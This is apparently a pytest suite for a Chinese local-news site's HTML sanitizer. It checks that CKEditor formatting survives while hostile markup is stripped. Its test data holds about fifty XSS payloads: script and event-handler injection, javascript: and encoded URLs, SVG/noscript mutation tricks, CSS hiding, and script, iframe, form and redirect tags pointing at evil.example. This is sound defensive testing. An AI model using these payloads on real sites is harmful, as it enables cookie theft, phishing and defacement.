"""A journalist's formatting survives the sanitizer; an attacker's payload does not.

Whatever reaches ``Article.body`` (a pasted press release, a forged POST, a
compromised staff account) is rendered unescaped on the public site, so each
hostile snippet below must lose its dangerous part while the words around it
stay readable.
"""

import pytest

from articles.sanitize import clean_style, sanitize_body
from tests.factories import ArticleFactory

# (hostile HTML, fragments that must be gone, text that must survive)
HOSTILE = [
    ("<p>市长讲话</p><script>alert(1)</script>", ["<script", "alert"], "市长讲话"),
    ("<ScRiPt SRC=//evil.example/x.js></sCrIpT><p>春耕</p>", ["script", "evil.example"], "春耕"),
    ('<img src="/media/a.jpg" onerror="alert(1)">图片说明', ["onerror", "alert"], "图片说明"),
    ('<body onload="alert(1)"><p>正文第一段</p></body>', ["onload", "alert"], "正文第一段"),
    ('<a href="/news/1" onclick="steal()">相关新闻</a>', ["onclick", "steal"], "相关新闻"),
    ('<p onmouseover="alert(1)" ONFOCUS="x()">悬停</p>', ["onmouseover", "onfocus"], "悬停"),
    ('<a href="javascript:alert(1)">点击领奖</a>', ["javascript", "alert"], "点击领奖"),
    ('<a href="jav&#x09;ascript:alert(1)">编码绕过</a>', ["ascript", "alert"], "编码绕过"),
    ('<a href="  JaVaScRiPt:alert(document.cookie)">大小写</a>', ["javascript", "cookie"], "大小写"),
    (
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">实体</a>',
        ["alert", "href"],
        "实体",
    ),
    ('<a href="vbscript:msgbox(1)">旧浏览器</a>', ["vbscript", "msgbox"], "旧浏览器"),
    (
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">数据链接</a>',
        ["data:", "base64"],
        "数据链接",
    ),
    ('<img src="javascript:alert(1)" alt="伪图片">配图', ["javascript", "alert"], "配图"),
    ('<img src="vbscript:msgbox(1)" alt="x">配图二', ["vbscript", "msgbox"], "配图二"),
    ('<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="x">配图三', ["data:", "base64"], "配图三"),
    ('<img src="/media/a.jpg" srcset="javascript:alert(1) 2x">配图四', ["srcset", "javascript"], "配图四"),
    ('<iframe src="https://evil.example/"></iframe><p>视频</p>', ["iframe", "evil.example"], "视频"),
    ('<object data="evil.swf"><param name="x" value="y"></object><p>附件</p>', ["object", "evil.swf", "param"], "附件"),
    ('<embed src="evil.swf" type="application/x-shockwave-flash"><p>插件</p>', ["embed", "evil.swf"], "插件"),
    ('<svg onload="alert(1)"><circle r="5"/></svg><p>矢量图</p>', ["svg", "onload", "circle"], "矢量图"),
    (
        '<svg><script>alert(1)</script><a xlink:href="javascript:alert(2)">x</a></svg>正文',
        ["svg", "script", "xlink"],
        "正文",
    ),
    ('<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>公式', ["math", "javascript"], "公式"),
    ("<style>body{display:none}</style><p>样式表</p>", ["<style", "display"], "样式表"),
    ('<div style="display:none">隐藏的广告</div>', ["display", "style="], "隐藏的广告"),
    ('<p style="visibility:hidden">看不见</p>', ["visibility", "style="], "看不见"),
    ('<p style="opacity:0">透明</p>', ["opacity", "style="], "透明"),
    ('<div style="position:fixed;top:0;left:0;z-index:9999">遮罩</div>', ["position", "z-index", "top"], "遮罩"),
    ('<span style="font-size:0">零字号</span>', ["font-size", "style="], "零字号"),
    ('<span style="color:#fff;background-color:#fff">白底白字</span>', ["color", "#fff"], "白底白字"),
    ('<p style="text-align:center;margin-left:-9999px">移出屏幕</p>', ["margin", "9999"], "移出屏幕"),
    ('<p style="text-align:center/**/;display:none">注释绕过</p>', ["display", "/*"], "注释绕过"),
    ('<p style="text-align:center\\3b display:none">转义绕过</p>', ["display", "\\"], "转义绕过"),
    ('<p style="background:url(javascript:alert(1))">背景</p>', ["url(", "javascript"], "背景"),
    ('<p style="width:expression(alert(1))">表达式</p>', ["expression", "alert"], "表达式"),
    ('<img src="/media/a.jpg" style="width:0;height:0">追踪像素', ["width:0", "height:0"], "追踪像素"),
    ("<!-- 内部备注：线人电话 138 --><p>公开内容</p>", ["<!--", "线人电话"], "公开内容"),
    ("<!--[if IE]><script>alert(1)</script><![endif]--><p>条件注释</p>", ["<!--", "script", "endif"], "条件注释"),
    ("<![CDATA[<img src=x onerror=alert(1)>]]><p>字符数据</p>", ["cdata", "onerror", "<img"], "字符数据"),
    (
        '<meta http-equiv="refresh" content="0;url=https://evil.example/"><p>跳转</p>',
        ["<meta", "refresh", "evil"],
        "跳转",
    ),
    ('<link rel="stylesheet" href="https://evil.example/x.css"><p>外链样式</p>', ["<link", "evil"], "外链样式"),
    ('<base href="https://evil.example/"><a href="/news/1">相对链接</a>', ["<base", "evil"], "相对链接"),
    (
        '<form action="https://evil.example/"><input type="password" name="pw">请输入密码</form>',
        ["<form", "<input", "evil"],
        "请输入密码",
    ),
    ('<button formaction="javascript:alert(1)">按钮文字</button>', ["<button", "formaction"], "按钮文字"),
    ("<textarea><img src=x onerror=alert(1)></textarea><p>文本框</p>", ["textarea", "onerror"], "文本框"),
    (
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">无脚本</p></noscript><p>变异</p>',
        ["onerror", "alert"],
        "变异",
    ),
    ("<template><img src=x onerror=alert(1)></template><p>模板</p>", ["template", "onerror"], "模板"),
    ('<img id="getElementById" name="cookie" src="/media/a.jpg">覆盖全局', ["id=", "name="], "覆盖全局"),
    ('<p class="hidden sr-only">借用站点样式</p>', ["class", "hidden"], "借用站点样式"),
    ('<a href="https://example.com/" target="_top" rel="opener">外站</a>', ["_top", 'opener"'], "外站"),
    ("<img src=x onerror=alert(1)//<p>未闭合</p>", ["onerror", "alert"], "未闭合"),
]


@pytest.mark.parametrize(("html", "dangerous", "survivor"), HOSTILE, ids=[case[2] for case in HOSTILE])
def test_hostile_markup_loses_its_payload_but_keeps_the_words(html, dangerous, survivor):
    cleaned = sanitize_body(html)

    for fragment in dangerous:
        assert fragment.lower() not in cleaned.lower()
    assert survivor in cleaned


def test_there_are_enough_hostile_cases_to_mean_something():
    assert len(HOSTILE) >= 30


@pytest.mark.parametrize("html", [case[0] for case in HOSTILE], ids=[case[2] for case in HOSTILE])
def test_sanitizing_twice_changes_nothing(html):
    once = sanitize_body(html)

    assert sanitize_body(once) == once


# How an edited CKEditor body looks after one save: the canonical form.
NEWSROOM_BODY = (
    "<h2>乐至县召开春耕生产推进会</h2>"
    '<p style="text-align:center"><img alt="会议现场" src="/media/uploads/2026/03/01/huiyi.jpg" style="width:400px"></p>'
    "<p>3月1日，<strong>乐至县</strong>召开<em>春耕生产</em>推进会，"
    '详见<a href="https://www.sc.gov.cn/" target="_blank" rel="noopener noreferrer nofollow">四川省人民政府网</a>。</p>'
    "<h3>一、稳面积</h3>"
    "<blockquote><p>“今年全县粮食播种面积要稳定在 80 万亩以上。”</p></blockquote>"
    "<ul><li>水稻 <u>32 万亩</u></li><li>玉米 <s>18</s> 20 万亩</li></ul>"
    "<ol><li>落实补贴</li><li>保障农资</li></ol>"
    '<table border="1" cellpadding="1" cellspacing="1" style="width:500px">'
    "<caption>各镇播种计划</caption>"
    '<thead><tr><th scope="col">乡镇</th><th scope="col">面积（亩）</th></tr></thead>'
    '<tbody><tr><td>天池街道</td><td style="text-align:right">52,000</td></tr>'
    '<tr><td colspan="2">合计另行公布</td></tr></tbody></table>'
    "<hr>"
    '<p style="text-align:right">（记者 汤斌 文/图）<br>联系电话：<a href="tel:02800000000" rel="noopener noreferrer nofollow">028-0000 0000</a></p>'
)


def test_a_newsroom_formatted_body_survives_unchanged():
    assert sanitize_body(NEWSROOM_BODY) == NEWSROOM_BODY


def test_ckeditor_spacing_and_self_closing_tags_come_out_equivalent():
    ckeditor_output = (
        '<p style="text-align: center;"><img alt="会议现场" src="/media/uploads/a.jpg" '
        'style="height: 300px; width: 400px; float: left;" /></p>\n'
        '<p><a href="http://www.ziyang.gov.cn/" target="_blank">资阳市政府</a></p>'
    )

    cleaned = sanitize_body(ckeditor_output)

    assert '<p style="text-align:center">' in cleaned
    assert 'style="width:400px;float:left"' in cleaned
    assert (
        '<a href="http://www.ziyang.gov.cn/" target="_blank" rel="noopener noreferrer nofollow">资阳市政府</a>'
        in cleaned
    )


def test_a_picture_keeps_its_width_but_no_fixed_height():
    # CKEditor's 图像 dialog writes the size the picture had in the editor; a
    # fixed height squashed it on a phone, where the width shrinks to fit.
    dialog_output = (
        '<img alt="会场" src="/media/uploads/a.jpg" width="1200" height="800" style="height:800px;width:1200px">'
    )

    cleaned = sanitize_body(dialog_output)

    assert cleaned == '<img alt="会场" src="/media/uploads/a.jpg" width="1200" style="width:1200px">'


def test_only_pictures_lose_their_height():
    assert sanitize_body('<table style="height:300px;width:500px"><tr><td>表</td></tr></table>').startswith(
        '<table style="height:300px;width:500px">'
    )


@pytest.mark.parametrize(
    ("style", "expected"),
    [
        ("text-align: center;", "text-align: center"),
        ("TEXT-ALIGN: Justify !important", "text-align: Justify"),
        ("text-align: center; display: none", "text-align: center"),
        ("width: 100%; height: auto", "width: 100%; height: auto"),
        ("display: none", None),
        ("text-align: center; content: '\\3b'", None),
    ],
)
def test_style_attribute_keeps_only_known_harmless_declarations(style, expected):
    assert clean_style(style) == expected


@pytest.mark.django_db
def test_saving_an_article_sanitizes_its_body():
    article = ArticleFactory(body='<p onclick="alert(1)">乐至新闻</p><script>alert(2)</script>')

    article.refresh_from_db()

    assert article.body == "<p>乐至新闻</p>"


@pytest.mark.django_db
def test_editing_an_article_sanitizes_the_new_body_too():
    article = ArticleFactory(body="<p>初稿</p>")

    article.body = '<p>改稿</p><a href="javascript:alert(1)">链接</a>'
    article.save()
    article.refresh_from_db()

    assert article.body == '<p>改稿</p><a rel="noopener noreferrer nofollow">链接</a>'
